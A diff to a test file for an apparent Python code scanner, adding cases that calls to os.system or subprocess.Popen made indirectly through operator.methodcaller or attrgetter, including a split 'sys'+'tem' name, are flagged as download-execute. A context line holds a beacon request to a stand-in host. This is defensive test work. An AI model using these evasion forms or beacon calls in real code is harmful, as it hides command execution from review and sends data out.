@@ -26,6 +26,19 @@ test('a command handed to a thread, a process, a pool, map or an exit hook is th
   }
 });
 
+test('a method called by name through operator (methodcaller, attrgetter) is the call it names', async () => {
+  for (const code of [
+    `import operator, os\noperator.methodcaller("system", ${COMMAND})(os)\n`,
+    `from operator import methodcaller\nimport subprocess\nrun = methodcaller("Popen", ${COMMAND}, shell=True)\nrun(subprocess)\n`,
+    `import operator, os\nget = operator.attrgetter("sys" + "tem")\nget(os)(${COMMAND})\n`,
+  ]) {
+    assert.ok((await rulesOf(code)).includes('download-execute critical import'), code);
+  }
+  // a method of a local object, or a name that does not fold, names nothing
+  const local = await rulesOf('import operator\nitems = [" a "]\nlist(map(operator.methodcaller("strip"), items))\n');
+  assert.ok(!local.some((rule) => /process|download|exec/.test(rule)), local.join(' | '));
+});
+
 test('a URL handed to an executor is the request made; exec handed to a thread runs its code', async () => {
   const fetch = await rulesOf(
     'import requests\nfrom concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(requests.get, "https://collector.example/beacon")\n',
